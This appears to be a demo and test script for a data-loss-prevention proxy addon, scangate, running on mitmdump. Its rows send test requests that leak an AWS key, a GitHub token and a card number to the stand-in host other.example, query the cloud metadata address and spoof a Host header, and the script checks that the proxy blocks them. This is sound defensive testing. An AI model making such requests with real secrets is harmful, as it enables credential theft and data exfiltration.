"""`make try`: real clients through the proxy to an origin on loopback, and a table of what became of it. No internet."""

import base64
import gzip
import json
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import certificates
from clients import Seen, Send, Via, curl, curl_h2, with_httpx, with_node, with_requests
from origin import Origin
from processes import Mitmdump, binary
from tokens import aws_key_id, card_number, github_token
from world import NAMES, POLICY, World

JSON = ("Content-Type", "application/json")


@dataclass
class Row:
    """One thing that an agent does."""

    what: str
    send: Send
    url: str
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes | None = None
    expected: str = "blocked"


def rows() -> list[Row]:
    """What is shown: harmless things, leaks, and what only looks like one."""
    key, token, card = aws_key_id(), github_token(), card_number()
    text = json.dumps({"note": f"the key is {key}"}).encode()
    chat = json.dumps({"model": "m", "messages": [{"role": "user", "content": f"my key is {key}, help"}]}).encode()
    blob = json.dumps({"blob": base64.b64encode(text).decode()}).encode()
    return [
        Row("a page", curl, "https://shop.example/", expected="allowed"),
        Row("a page over HTTP/2", curl_h2, "https://shop.example/", expected="allowed"),
        Row("JSON without a secret", with_httpx, "https://shop.example/api", [JSON], b'{"a": 1}', "allowed"),
        Row("GitHub token to GitHub", with_requests, "https://api.github.com/user", bearer(token), None, "allowed"),
        Row("GitHub token elsewhere", with_requests, "https://other.example/user", bearer(token)),
        Row("AWS key in JSON", with_node, "https://other.example/paste", [JSON], text),
        Row(
            "AWS key in gzip", curl, "https://other.example/", [JSON, ("Content-Encoding", "gzip")], gzip.compress(text)
        ),
        Row("AWS key in base64 in JSON", with_httpx, "https://other.example/", [JSON], blob),
        Row("AWS key in a query", curl, f"https://other.example/?q={key}"),
        Row("card number in a form", with_requests, "https://other.example/pay", [], f"card={card}".encode()),
        Row(
            "AWS key in a conversation",
            with_httpx,
            "https://api.openai.com/v1/chat/completions",
            [JSON],
            chat,
            "redacted",
        ),
        Row("cloud metadata", curl, "http://169.254.169.254/latest/meta-data/"),
        Row("another host in the Host header", curl, "https://shop.example/", [("Host", "other.example")]),
    ]


def bearer(token: str) -> list[tuple[str, str]]:
    """An Authorization header."""
    return [("Authorization", f"Bearer {token}")]


def outcome(seen: Seen, sent: bytes | None, origin: Origin) -> str:
    """What became of a request, judged by what the origin received."""
    if not origin.log.requests:
        return "blocked" if "scangate-reason" in seen.headers or b"403" in seen.body else "failed"
    return "allowed" if origin.log.requests[0].body == (sent or b"") else "redacted"


def show(row: Row, via: Via, origin: Origin) -> bool:
    """Send one request and print its line; return whether it went as it should."""
    origin.log.clear()
    began = time.monotonic()
    seen = row.send(via, "GET" if row.body is None else "POST", row.url, row.headers, row.body)
    took_ms = (time.monotonic() - began) * 1000
    became = outcome(seen, row.body, origin)
    client = row.send.__name__.removeprefix("with_").replace("_", "-")
    host = row.url.split("/")[2]
    reason = seen.headers.get("scangate-reason", "")
    arrived = f"{len(origin.log.requests[0].body)} B body" if origin.log.requests else "nothing"
    mark = " " if became == row.expected else "!"
    print(f"{mark} {became:<9} {row.what:<32} {client:<9} {host:<17} {arrived:<10} {took_ms:5.0f} ms  {reason}")
    return became == row.expected


def demonstrate(folder: Path, report: Callable[[str], None]) -> bool:
    """Start everything, show every row, and end it all."""
    pair = certificates.make(folder, [*NAMES, "127.0.0.1"])
    subprocess.run([binary("ca-prep"), "issue", "--out", folder / "ca"], check=True, capture_output=True)
    origin = Origin(pair.leaf)
    world = World(origin, pair, folder / "ca", folder)
    policy = f"scangate_policy={world.policy(POLICY)}"
    proxy = Mitmdump(folder / "proxy", folder / "ca", world.trust(), policy, env=world.environment())
    try:
        report(f"mitmdump with the addon on {proxy.ready().via.proxy}, an origin with TLS on loopback\n")
        report(f"  {'became':<9} {'what':<32} {'client':<9} {'host':<17} {'arrived':<10} {'took':>8}  reason")
        went_as_expected = [show(row, proxy.via, origin) for row in rows()]
        return all(went_as_expected)
    finally:
        proxy.stop()
        origin.stop()


if __name__ == "__main__":
    with tempfile.TemporaryDirectory(prefix="scangate-try-") as name:
        sys.exit(0 if demonstrate(Path(name), print) else 1)
